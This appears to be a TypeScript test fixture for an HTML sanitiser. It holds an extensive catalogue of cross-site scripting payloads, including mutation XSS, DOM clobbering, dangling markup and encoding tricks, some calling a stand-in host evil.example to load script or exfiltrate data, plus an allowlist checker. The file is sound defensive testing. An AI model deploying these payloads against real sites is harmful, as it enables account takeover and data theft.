/**
 * HTML that attacks the page showing it, by method. A successful attack opens a dialog, makes a request to evil.example,
 * navigates there, or covers the page.
 */
export const hostileHtml: Record<string, readonly string[]> = {
  script: [
    `<script>alert(1)</script>`,
    `<script src="https://evil.example/x.js"></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script src="data:text/javascript,alert(1)"></script>`,
    `<ScRiPt>alert(1)</sCrIpT>`,
    `<script/x>alert(1)</script>`,
    `<script\t>alert(1)</script >`,
    `<script>alert(1)`,
    `<<script>alert(1)//<</script>`,
    `<scr<script>ipt>alert(1)</scr</script>ipt>`,
    `<script type="module">import 'https://evil.example/x.js'</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
    `<noscript><p title="</noscript><script>alert(1)</script>"></noscript>`,
    `<p>fine</p><script>document.body.innerHTML=''</script>`,
  ],

  handlers: [
    `<img src=x onerror=alert(1)>`,
    `<img src=x onerror="alert(1)">`,
    `<img/src=x/onerror=alert(1)>`,
    `<img src=x oNeRrOr=alert(1)>`,
    `<img src=x onerror\n=\nalert(1)>`,
    `<img src="x\` \`<img src=x onerror=alert(1)>"\` \`>`,
    `<IMG """><img src=x onerror="alert(1)">">`,
    `<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
    `<img srcset="x" onerror=alert(1)>`,
    `<img src=/art/none.svg onload=alert(1) onerror=alert(1)>`,
    `<body onload=alert(1)>`,
    `<body onpageshow=alert(1) onfocus=alert(1)>`,
    `<p onclick=alert(1) onpointerenter=alert(1)>tap me</p>`,
    `<a href="/m/home" onclick="alert(1)">home</a>`,
    `<div onanimationstart=alert(1) style="animation:page-fade 1s">x</div>`,
    `<div ontransitionend=alert(1)>x</div>`,
    `<p onfocus=alert(1) tabindex=0 autofocus>x</p>`,
    `<details open ontoggle=alert(1)><summary>x</summary></details>`,
    `<marquee onstart=alert(1) loop=1 width=0>x</marquee>`,
    `<video><source onerror=alert(1)></video>`,
    `<video src=x onerror=alert(1) autoplay></video>`,
    `<audio src=x onerror=alert(1)></audio>`,
    `<object data=x onerror=alert(1)></object>`,
    `<input autofocus onfocus=alert(1)>`,
    `<select autofocus onfocus=alert(1)></select>`,
    `<textarea autofocus onfocus=alert(1)></textarea>`,
    `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>`,
    `<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>`,
    `<p onscrollsnapchange=alert(1) onwheel=alert(1)>x</p>`,
  ],

  addresses: [
    `<a href="javascript:alert(1)">x</a>`,
    `<a href="JaVaScRiPt:alert(1)">x</a>`,
    `<a href=" \x01 javascript:alert(1)">x</a>`,
    `<a href="java\tscript:alert(1)">x</a>`,
    `<a href="java&#10;script:alert(1)">x</a>`,
    `<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">x</a>`,
    `<a href="javascript&#0000058alert(1)">x</a>`,
    `<a href="javascript://evil.example/%0aalert(1)">x</a>`,
    `<a href="\u0000javascript:alert(1)">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="livescript:alert(1)">x</a>`,
    `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
    `<a href="blob:https://evil.example/1">x</a>`,
    `<a href="filesystem:https://evil.example/1">x</a>`,
    `<a href="view-source:https://evil.example/">x</a>`,
    `<a href="file:///etc/passwd">x</a>`,
    `<a href="intent://evil.example#Intent;scheme=https;end">x</a>`,
    `<a xlink:href="javascript:alert(1)">x</a>`,
    `<a ping="https://evil.example/" href="/m/home">x</a>`,
    `<a attributionsrc="https://evil.example/" href="/m/home">x</a>`,
    `<area href="javascript:alert(1)" coords="0,0,999,999" shape=rect>`,
    `<img src="javascript:alert(1)">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
    `<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
    `<blockquote cite="javascript:alert(1)">x</blockquote>`,
  ],

  'open redirects': [
    `<a href="//evil.example/">x</a>`,
    `<a href="/\\evil.example/">x</a>`,
    `<a href="\\\\evil.example\\">x</a>`,
    `<a href="/\t/evil.example/">x</a>`,
    `<a href="/&#10;/evil.example/">x</a>`,
    `<a href="/.//evil.example/">x</a>`,
    `<a href="/m/..//evil.example/">x</a>`,
    `<a href="/%2e//evil.example/">x</a>`,
    `<a href="https:evil.example">x</a>`,
    `<a href="https:/evil.example">x</a>`,
    `<a href="https://araw.example@evil.example/">x</a>`,
    `<a href="https://araw.example:secret@evil.example/">x</a>`,
    `<a href="ftp://evil.example/">x</a>`,
  ],

  'foreign pictures': [
    `<img src="https://evil.example/pixel.png">`,
    `<img src="//evil.example/pixel.png">`,
    `<img src="/\\evil.example/pixel.png">`,
    `<img src="/.//evil.example/pixel.png">`,
    `<img src="https://cdn.example.evil.example/pixel.png">`,
    `<img src="https://cdn.example@evil.example/pixel.png">`,
    `<img srcset="https://evil.example/pixel.png 1x" src="/art/none.svg">`,
    `<picture><source srcset="https://evil.example/pixel.png"><img src="/art/none.svg"></picture>`,
    `<image src="https://evil.example/pixel.png">`,
    `<input type=image src="https://evil.example/pixel.png">`,
    `<video poster="https://evil.example/pixel.png"></video>`,
    `<table background="https://evil.example/pixel.png"><tr><td background="https://evil.example/pixel.png">x</table>`,
    `<body background="https://evil.example/pixel.png">`,
  ],

  styles: [
    `<style>body{display:none}</style>`,
    `<style>@import 'https://evil.example/x.css';</style>`,
    `<link rel=stylesheet href="https://evil.example/x.css">`,
    `<link rel=preload as=image href="https://evil.example/pixel.png">`,
    `<link rel=dns-prefetch href="//evil.example">`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
    `<div style="background:url(https://evil.example/pixel.png)">x</div>`,
    `<div style="width:expression(alert(1))">x</div>`,
    `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
    `<div style="background:\\75rl('https://evil.example/pixel.png')">x</div>`,
    `<div class="mask dialog popup-on">x</div>`,
    `<font style="font-family:'</style><script>alert(1)</script>'">x</font>`,
    `<dialog open>x</dialog>`,
  ],

  frames: [
    `<iframe src="javascript:alert(1)"></iframe>`,
    `<iframe src="https://evil.example/"></iframe>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>`,
    `<iframe src="/m/home"></iframe>`,
    `<frameset><frame src="javascript:alert(1)"></frameset>`,
    `<fencedframe></fencedframe><portal src="https://evil.example/"></portal>`,
    `<object data="data:text/html,<script>alert(1)</script>"></object>`,
    `<object data="https://evil.example/x.swf"><param name=movie value="https://evil.example/x.swf"></object>`,
    `<embed src="data:text/html,<script>alert(1)</script>">`,
    `<applet code="x" codebase="https://evil.example/"></applet>`,
  ],

  'document and forms': [
    `<base href="https://evil.example/"><a href="/m/home">home</a>`,
    `<base target="_blank">`,
    `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
    `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
    `<meta name=referrer content=unsafe-url>`,
    `<title>Log in again</title>`,
    `<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>`,
    `<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>`,
    `<form action="javascript:alert(1)"><input type=submit id=x></form><label for=x>x</label>`,
    `<isindex action="javascript:alert(1)" type=image>`,
    `<keygen autofocus onfocus=alert(1)>`,
    `<div contenteditable role=dialog aria-modal=true aria-label="Log in">x</div>`,
  ],

  'svg and mathml': [
    `<svg onload=alert(1)>`,
    `<svg><script>alert(1)</script></svg>`,
    `<svg><script href="data:text/javascript,alert(1)"/></svg>`,
    `<svg><script>alert&#40;1)</script></svg>`,
    `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
    `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
    `<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=alert(1)></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x" /></svg>`,
    `<svg><image href="https://evil.example/pixel.png" /></svg>`,
    `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
    `<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
    `<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>`,
    `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
    `<math href="javascript:alert(1)">x</math>`,
    `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`,
  ],

  mutation: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
    `<svg><p><style><g title="</style><img src onerror=alert(1)>">`,
    `<math><mi><style><img title="</style><img src onerror=alert(1)>"></style></mi></math>`,
    `<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>`,
    `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
    `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
    `<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
    `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
    `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
    `<plaintext><img src=x onerror=alert(1)>`,
    `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
    `<option><style></option></select><img src=x onerror=alert(1)></style>`,
    `<table><td><svg><desc><td><svg><title><td><img src=x onerror=alert(1)>`,
    `<p><svg><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>`,
    `<math><annotation-xml encoding="text/html"><p><style><a title="</style><img src=x onerror=alert(1)>">`,
    `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
    `<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>`,
    `<!--><img src=x onerror=alert(1)>-->`,
    `<!--!><img src=x onerror=alert(1)>-->`,
    `<!-- --!><img src=x onerror=alert(1)>-->`,
    `<![><img src="]><img src=x onerror=alert(1)//">`,
    `<a title="\`\`onmouseover=alert(1)">x</a>`,
    `<b><i><a href="javascript:alert(1)"></b>x</i></a>`,
    `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>${'</div>'.repeat(600)}`,
    `${'<svg><desc>'.repeat(520)}<style><img title="</style><img src=x onerror=alert(1)>"></style>`,
  ],

  templates: [
    `<template><script>alert(1)</script></template>`,
    `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
    `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template></div>`,
    `<slot onslotchange=alert(1) name=x></slot>`,
    `<x-element is=x onconnected=alert(1)>x</x-element>`,
    `<p is="x-element">x</p>`,
    `{{constructor.constructor('alert(1)')()}}`,
    '${alert(1)}',
  ],

  clobbering: [
    `<img name=cookie><img id=location><a id=body></a>`,
    `<form id=document><input name=body><input id=attributes></form>`,
    `<a id=trustedTypes href="x:alert(1)"></a><a id=trustedTypes name=createPolicy></a>`,
    `<form><input name=parentNode><input name=nodeName><input name=removeChild><input name=attributes></form>`,
    `<form onsubmit=alert(1)><input name=attributes><input type=submit></form>`,
    `<p id=root>x</p><p id=content>x</p><p id=startup>{}</p>`,
    `<object name=defaultView></object><embed name=getElementById>`,
    `<p data-theme=light data-reactroot data-testid=x>x</p>`,
    `<p id=__proto__ name=constructor>x</p>`,
  ],

  'dangling markup': [
    `<img src='https://evil.example/?`,
    `<a href='https://evil.example/?`,
    `<a target='`,
    `<p title="`,
    `<form action='https://evil.example/'><textarea name=x>`,
    `<style>@import'//evil.example/?`,
    `</div></div></main></body></html><script>alert(1)</script>`,
    `--></textarea></style></title></script><img src=x onerror=alert(1)>`,
  ],

  encodings: [
    `&lt;script&gt;alert(1)&lt;/script&gt;`,
    `\u202e<img src=x onerror=alert(1)>`,
    `<img\u00a0src=x onerror=alert(1)>`,
    `<img\fsrc=x\fonerror=alert(1)>`,
    `<\u017fcript>alert(1)</\u017fcript>`,
    `<\u212amg src=x onerror=alert(1)>`,
    `＜script＞alert(1)＜/script＞`,
    `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
    `%3Cscript%3Ealert(1)%3C/script%3E`,
    `<a href="java\u00adscript:alert(1)">x</a>`,
    `<a href="java\u2028script:alert(1)">x</a>`,
    `<a href="\u2003javascript:alert(1)">x</a>`,
    `<a href="&#14; javascript:alert(1)">x</a>`,
    `\ud800<script>alert(1)</script>\udc00`,
  ],
};

const tags = new Set(
  `p br hr div span h2 h3 h4 h5 h6 blockquote pre code b strong i em u s del ins mark small sub sup ul ol li
   dl dt dd table caption colgroup col thead tbody tfoot tr th td a img figure figcaption`.split(/\s+/u),
);
const attributes = new Set(
  'href src alt title width height colspan rowspan scope start dir lang target rel loading'.split(' '),
);

interface ElementFacts {
  tag: string;
  namespace: string | null;
  attributes: Record<string, string>;
}

/** All descendants of an element. Must be self-contained, so that it can run inside a page. */
export const elementsBelow = (root: Element): ElementFacts[] =>
  [...root.querySelectorAll('*')].map(({ localName, namespaceURI, attributes: given }) => ({
    tag: localName,
    namespace: namespaceURI,
    attributes: Object.fromEntries([...given].map(({ name, value }) => [name, value])),
  }));

/** Everything about an element that should have been removed, in words. */
export function harmOf({ tag, namespace, attributes: given }: ElementFacts): string[] {
  const { href, src } = given;
  return [
    ...(tags.has(tag) && namespace === 'http://www.w3.org/1999/xhtml' ? [] : [`<${tag}>`]),
    // `is` can't be removed by script, so the sanitiser empties it.
    ...Object.keys(given).filter((name) => !attributes.has(name) && !(name === 'is' && given.is === '')),
    ...(href === undefined || leadsWell(href, given) ? [] : [`leads to ${href}`]),
    ...(src === undefined || isOwnPath(src) ? [] : [`comes from ${src}`]),
  ];
}

/** To a path of the own origin, or openly to another site. */
const leadsWell = (href: string, { target, rel }: Record<string, string>) =>
  isOwnPath(href) ||
  (/^https?:\/\/[^/@]+(\/|$)/u.test(href) && target === '_blank' && rel === 'noopener noreferrer nofollow');

const isOwnPath = (address: string) =>
  address.startsWith('/') && new URL(address, 'https://araw.example').origin === 'https://araw.example';
